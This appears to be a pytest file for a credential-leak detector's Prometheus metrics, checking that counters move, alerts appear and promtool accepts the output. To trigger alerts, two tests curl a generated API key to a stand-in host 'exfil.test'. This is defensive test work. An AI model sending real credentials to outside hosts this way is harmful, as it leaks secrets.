"""The agent's Prometheus endpoint (issue 17, item 2), scraped as Prometheus would while real
traffic flows through the test cgroup: the counters move, the alert shows, and promtool accepts
the page. Under CI=true a missing promtool fails the test instead of skipping it."""

import os
import re
import shutil
import subprocess
import threading
import time
import urllib.request

from kharness import env
from test_collector import Collector, collector_path

SAMPLE = re.compile(r'^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{[^}]*\})? (\S+)$')
ALERT_TIMEOUT = 5.0
PUBLISH_TIMEOUT = 3.0  # the page is rebuilt every second


def _metrics_port(log_text: str) -> int:
    m = re.search(r"metrics on http://127\.0\.0\.1:(\d+)/metrics", log_text)
    assert m, f"no 'metrics on' line in the log:\n{log_text[-3000:]}"
    return int(m.group(1))


def _port_from_log(agent) -> int:
    return _metrics_port(agent.registry.redact(agent.log_text()))


def _scrape(port: int) -> tuple[str, str]:
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=5) as resp:
        assert resp.status == 200
        return resp.headers.get("Content-Type", ""), resp.read().decode()


def _samples(text: str) -> dict[str, float]:
    """'name{labels}' -> value, for every sample line."""
    out = {}
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        m = SAMPLE.match(line)
        assert m, f"not a sample line: {line!r}"
        out[m.group(1) + (m.group(2) or "")] = float(m.group(3))
    return out


def _wait_for(port: int, predicate, timeout: float) -> dict[str, float]:
    deadline = time.monotonic() + timeout
    while True:
        samples = _samples(_scrape(port)[1])
        if predicate(samples) or time.monotonic() > deadline:
            return samples
        time.sleep(0.2)


def _promtool(text: str) -> subprocess.CompletedProcess:
    promtool = shutil.which("promtool")
    env.require(promtool is not None,
                "promtool not installed (Debian package prometheus; scripts/install-deps.sh)")
    return subprocess.run([promtool, "check", "metrics"], input=text, capture_output=True,
                          text=True, timeout=30)


def test_metrics_move_with_traffic_show_the_alert_and_pass_promtool(
        start_agent, clients, https_server, http_server, curl, registry, scratch):
    agent = start_agent(extra_args=["--metrics-listen", "127.0.0.1:0"])
    port = _port_from_log(agent)
    content_type, first_page = _scrape(port)
    assert content_type.startswith("text/plain; version=0.0.4"), content_type
    before = _samples(first_page)
    assert before.get("credsentry_agent_pipeline_alerts_total") == 0, first_page[:2000]
    assert 'credsentry_agent_kernel_drops_total{category="ringbuf_data"}' in before
    assert 'credsentry_agent_sink_written_total{sink="file"}' in before

    # Plain HTTP requests in a loop while the page is scraped: a scrape never waits on them.
    stop = threading.Event()
    requests_done = []

    def traffic():
        while not stop.is_set():
            clients.run(curl.http(http_server, "/health"))
            requests_done.append(1)

    worker = threading.Thread(target=traffic)
    worker.start()
    pages = []
    try:
        key = registry.new("openai")
        header = scratch / "headers"
        header.write_text(f"Authorization: Bearer {key}\n")
        clients.run(curl.https(https_server, "exfil.test", "/v1/chat/completions") +
                    ["-H", f"@{header}", "--data-binary", '{"model":"x"}'])
        alerts = agent.wait_for_alerts(timeout=ALERT_TIMEOUT)
        assert alerts, f"no alert within {ALERT_TIMEOUT}s\n{agent.diagnostics()}"
        deadline = time.monotonic() + PUBLISH_TIMEOUT
        while time.monotonic() < deadline or len(requests_done) < 3:
            started = time.monotonic()
            pages.append(_scrape(port)[1])
            assert time.monotonic() - started < 1.0, "a scrape took over 1 s"
            time.sleep(0.1)
            if time.monotonic() > deadline + 10:
                break
    finally:
        stop.set()
        worker.join(timeout=30)
    assert len(requests_done) >= 3, "the traffic loop did not run"

    after = _wait_for(port, lambda s: s.get("credsentry_agent_pipeline_alerts_total", 0) >= 1,
                      PUBLISH_TIMEOUT)
    page = _scrape(port)[1]
    registry.watch_text("metrics page", page)
    for p in pages:
        registry.watch_text("metrics page during traffic", p)
    assert after.get("credsentry_agent_pipeline_alerts_total") == len(agent.alerts()) >= 1, \
        agent.diagnostics()
    for name in ("credsentry_agent_pipeline_records_total",
                 'credsentry_agent_kernel_events_total{ring="data"}',
                 'credsentry_agent_kernel_events_total{ring="control"}',
                 "credsentry_agent_pipeline_secret_matches_total",
                 'credsentry_agent_sink_written_total{sink="file"}'):
        assert after[name] > before[name], f"{name} did not increase: {before[name]} -> {after[name]}"
    # Counters never go back between scrapes taken while traffic flowed.
    series = [_samples(p) for p in pages]
    for earlier, later in zip(series, series[1:]):
        for name, value in earlier.items():
            if name.split("{")[0].endswith("_total"):
                assert later[name] >= value, f"{name} went down: {value} -> {later[name]}"

    check = _promtool(page)
    print(f"\npromtool check metrics: rc={check.returncode} {check.stdout}{check.stderr}")
    assert check.returncode == 0, f"promtool check metrics:\n{check.stdout}{check.stderr}"


def test_metrics_listen_refuses_a_non_loopback_address_and_names_the_flag(agent_binary, cgroup):
    proc = subprocess.run([str(agent_binary), "--cgroup", str(cgroup), "--rules",
                           str(env.DEFAULT_RULES), "--metrics-listen", "0.0.0.0:9464"],
                          capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL)
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0, out
    assert "not a loopback address" in out and "--metrics-allow-remote" in out, out


def test_metrics_off_by_default(agent):
    assert "metrics on http" not in agent.log_text()


def _collector_with_metrics(agent_binary, scratch) -> Collector:
    """test_collector's collector (PKI, SQLite, queries), started with --metrics-listen."""
    binary = collector_path(agent_binary)
    env.require(binary.is_file() and os.access(binary, os.X_OK),
                f"collector binary not built: {binary} (build it or set CREDSENTRY_COLLECTOR)")
    workdir = scratch / "collector"
    workdir.mkdir()
    c = Collector(binary, workdir)
    with open(c.log, "ab") as log:
        c.proc = subprocess.Popen(
            [str(binary), "serve", "--listen", "127.0.0.1:0", "--db", str(c.db),
             "--ca", str(c.pki / "ca.pem"), "--cert", str(c.pki / "server.pem"),
             "--key", str(c.pki / "server.key"), "--port-file", str(c.port_file),
             "--metrics-listen", "127.0.0.1:0"],
            stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT)
    deadline = time.monotonic() + 10
    while not c.port_file.exists():
        assert c.proc.poll() is None and time.monotonic() < deadline, c.log.read_text()[-2000:]
        time.sleep(0.02)
    c.port = int(c.port_file.read_text())
    return c


def test_agent_and_collector_metrics_follow_an_alert_to_the_database(
        agent_binary, start_agent, clients, https_server, curl, registry, scratch):
    collector = _collector_with_metrics(agent_binary, scratch)
    try:
        collector_port = _metrics_port(collector.log.read_text())
        config = scratch / "agent.yaml"
        config.write_text(collector.agent_config(scratch / "spool") +
                          "metrics_listen: 127.0.0.1:0\n")
        agent = start_agent(extra_args=["--config", str(config)])
        agent_port = _port_from_log(agent)

        key = registry.new("openai")
        header = scratch / "headers"
        header.write_text(f"Authorization: Bearer {key}\n")
        clients.run(curl.https(https_server, "exfil.test", "/v1/chat/completions") +
                    ["-H", f"@{header}", "--data-binary", '{"model":"x"}'])
        assert agent.wait_for_alerts(timeout=ALERT_TIMEOUT), agent.diagnostics()

        sent = 'credsentry_agent_sink_sent_total{sink="collector"}'
        agent_side = _wait_for(agent_port, lambda s: s.get(sent, 0) >= 1, PUBLISH_TIMEOUT + 5)
        assert agent_side.get(sent, 0) >= 1, agent.diagnostics()
        assert agent_side['credsentry_agent_sink_spool_pending_alerts{sink="collector"}'] == 0
        assert 'credsentry_agent_sink_spool_bytes{sink="collector"}' in agent_side
        assert agent_side['credsentry_agent_sink_send_failures_total{sink="collector"}'] == 0

        stored = 'credsentry_collector_alerts_total{outcome="stored"}'
        collector_side = _wait_for(collector_port, lambda s: s.get(stored, 0) >= 1, 5)
        assert collector_side[stored] >= 1, collector.log.read_text()[-2000:]
        assert collector_side["credsentry_collector_alerts_received_total"] >= 1
        assert collector_side["credsentry_collector_commit_duration_seconds_count"] >= 1
        assert collector_side["credsentry_collector_commit_queue_alerts"] == 0

        for name, port in (("agent", agent_port), ("collector", collector_port)):
            page = _scrape(port)[1]
            registry.watch_text(f"{name} metrics page", page)
            check = _promtool(page)
            print(f"\npromtool check metrics ({name}): rc={check.returncode} "
                  f"{check.stdout}{check.stderr}")
            assert check.returncode == 0, f"{name}: {check.stdout}{check.stderr}"
    finally:
        collector.stop()
        for f in collector.files():
            registry.watch_file(f)
